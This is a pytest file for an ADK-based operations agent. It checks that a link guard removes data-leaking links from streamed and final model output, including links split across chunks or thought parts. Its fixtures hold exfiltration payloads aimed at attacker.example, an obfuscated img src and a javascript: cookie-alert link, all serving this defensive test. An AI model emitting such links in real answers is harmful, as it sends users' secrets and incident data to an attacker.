"""The link guard on what a streaming client renders, through ADK's Runner in SSE mode: the text
of the partial chunks joined (per kind: answer text, thoughts), and the final message. A link
split across chunks -- or across two thought parts -- must reach neither; benign text streams
through unchanged, each piece as soon as it can no longer become a link."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from google.adk.agents.run_config import RunConfig, StreamingMode
from google.adk.models.base_llm import BaseLlm
from google.adk.models.llm_response import LlmResponse
from google.genai import types

from ops_copilot.agent import build_agent
from ops_copilot.store.workspace import Workspace
from ops_eval import AgentSession
from support import run

PROMPT = "How is INC-002? Our status page is https://status.acme.com and the pool graph is at " \
    "https://grafana.internal/d/db?orgId=1"  # fmt: skip
SSE = RunConfig(streaming_mode=StreamingMode.SSE)


class ChunkedLlm(BaseLlm):
    """One answer as a model streams it. With `stream` (ADK's SSE mode): a partial response per
    chunk, then the whole as one non-partial response (thoughts joined in one part, text in
    another), as ADK's LiteLlm sends them. Without: one response with a part per chunk. A chunk
    is text, or ("thought", text)."""

    model: str = "chunked"
    chunks: list[Any] = []

    async def generate_content_async(self, llm_request, stream=False):
        parts = [
            types.Part(text=c[1], thought=True) if isinstance(c, tuple) else types.Part(text=c)
            for c in self.chunks
        ]
        if not stream:
            yield LlmResponse(content=types.Content(role="model", parts=parts))
            return
        for part in parts:
            yield LlmResponse(content=types.Content(role="model", parts=[part]), partial=True)
            await asyncio.sleep(0)  # let another session's stream run in between
        thought = "".join(p.text for p in parts if p.thought)
        text = "".join(p.text for p in parts if not p.thought)
        whole = [types.Part(text=thought, thought=True)] if thought else []
        whole += [types.Part(text=text)] if text else []
        yield LlmResponse(
            content=types.Content(role="model", parts=whole),
            partial=False,
            finish_reason=types.FinishReason.STOP,
        )


def _texts(events, *, partial: bool, thought: bool) -> str:
    return "".join(
        p.text
        for e in events
        if bool(e.partial) == partial and e.content and e.author != "user"
        for p in e.content.parts or []
        if p.text and bool(p.thought) == thought
    )


async def _stream(seed, chunks, prompt: str = PROMPT, run_config=SSE) -> dict[str, str]:
    """One streamed turn: what a streaming client renders (the partial chunks' text joined, the
    answer and the thoughts apart) and what the final message holds."""
    agent = build_agent(ChunkedLlm(chunks=list(chunks)))
    async with AgentSession(agent, Workspace.fresh(seed), run_config=run_config) as session:
        events = (await session.send(prompt)).events
    return {
        "streamed": _texts(events, partial=True, thought=False),
        "streamed thoughts": _texts(events, partial=True, thought=True),
        "final": _texts(events, partial=False, thought=False),
        "final thoughts": _texts(events, partial=False, thought=True),
    }


# id: (chunks, what must reach no client). Each chunk alone holds nothing the guard removes.
SPLIT = {
    "image-after-its-scheme": (
        ["Pool exhausted. ![x](https://", "attacker.example", "/?d=SECRET) ok"], "attacker"),
    "trusted-host-extended": (
        ["See ![s](https://status.acme.com", ".attacker.example/p.png?d=1) ok"], "attacker"),
    "data-on-a-trusted-host": (
        ["![p](https://status.acme.com/pixel", "?d=INC-002-db-pool) ok"], "db-pool"),
    "bare-url": (
        ["Upload to https://status.acme.com", ".attacker.example/u?d=INC-002 ok"], "attacker"),
    "tag-attribute": (
        ['<img alt="pool ', 'graph" src="/&#9;/attacker.example/?d=INC-002"> ok'], "attacker"),
    "reference-definition": (
        ["See [1].\n\n[1]: ", "javascript:alert(document.cookie)\n\nok"], "javascript"),
    "thoughts": (
        [("thought", "Maybe ![t](https://status.acme.com"),
         ("thought", ".attacker.example/?d=SECRET) fits."), "All clear, ok"], "attacker"),
}  # fmt: skip


@pytest.mark.parametrize(("chunks", "secret"), SPLIT.values(), ids=SPLIT.keys())
def test_a_link_split_across_streamed_chunks_reaches_no_streaming_client(seed, chunks, secret):
    shown = run(_stream(seed, chunks))
    for where, text in shown.items():
        assert secret not in text, (where, text)
    assert shown["final"].endswith("ok")


def test_benign_text_streams_through_unchanged_each_word_once_it_cannot_become_a_link(seed):
    """Allowlisted links, relative links, brackets and markup: nothing is removed. Only the
    last word, which a next chunk could still extend into a link, waits for the final message."""
    chunks = [
        "See [the dashboard](https://grafana.internal/d/db?orgId=1) for the ",
        "pool graph; ratio [3/4] of [the runbook](runbooks/cache.md) is <b>fine</b>",
        " and a < b holds, as https://status.acme.com/ says, all ",
        "done.",
    ]
    whole = "".join(chunks)
    shown = run(_stream(seed, chunks))
    assert shown["final"] == whole
    assert shown["streamed"] == whole.removesuffix("done.")


def test_a_link_split_across_two_thought_parts_of_one_response_is_removed(seed):
    """Without streaming too: the thoughts a client shows are judged joined, as it shows them."""
    chunks = [
        ("thought", "Link ![s](https://status.acme.com"),
        ("thought", ".attacker.example/p.png?d=INC-002) in."),
        "Done.",
    ]
    shown = run(_stream(seed, chunks, run_config=None))
    assert "attacker" not in shown["final thoughts"] and shown["final"] == "Done."


@pytest.mark.parametrize("run_config", [None, SSE], ids=["whole", "streamed"])
def test_thoughts_are_judged_as_the_dev_ui_shows_them(seed, run_config):
    """`adk web` drops `/*PLANNING*/` and `/*ACTION*/` from a thought before rendering it, which
    joins what they stood between into one host."""
    chunks = [("thought", "See https://status.acme.com/*PLANNING*/.attacker.example/x now."), "Ok."]
    shown = run(_stream(seed, chunks, run_config=run_config))
    thoughts = shown["final thoughts"] + shown["streamed thoughts"]
    assert "attacker" not in thoughts.replace("/*PLANNING*/", "") and shown["final"] == "Ok."


def test_concurrent_streams_are_guarded_each_on_its_own_text(seed):
    """Two sessions streaming at once, chunk by chunk in turn: each stream's held text is its
    own, and a link split in one is caught there."""
    first = ["One: ![x](https://", "attacker.example/?d=SECRET) and the ", "first answer."]
    second = ["Two: the second ", "answer ", "is here."]

    async def both():
        return await asyncio.gather(_stream(seed, first), _stream(seed, second))

    one, two = run(both())
    assert "attacker" not in one["streamed"] and one["final"].startswith("One: [image removed")
    assert one["streamed"] == one["final"].removesuffix("answer.")
    assert (two["streamed"], two["final"]) == ("Two: the second answer is ", "".join(second))


def test_text_that_could_become_a_link_for_too_long_is_not_streamed_at_all(seed):
    """An unclosed tag is held; past the bound, the rest of the message comes only with the
    final message, guarded whole."""
    chunks = [
        'Before. <img alt="',
        "a " * 6000,
        '" src="/&#9;/attacker.example/?d=INC-002"> After it.',
    ]
    shown = run(_stream(seed, chunks))
    assert shown["streamed"] == "Before. "
    assert "attacker" not in shown["final"] and shown["final"].endswith("After it.")
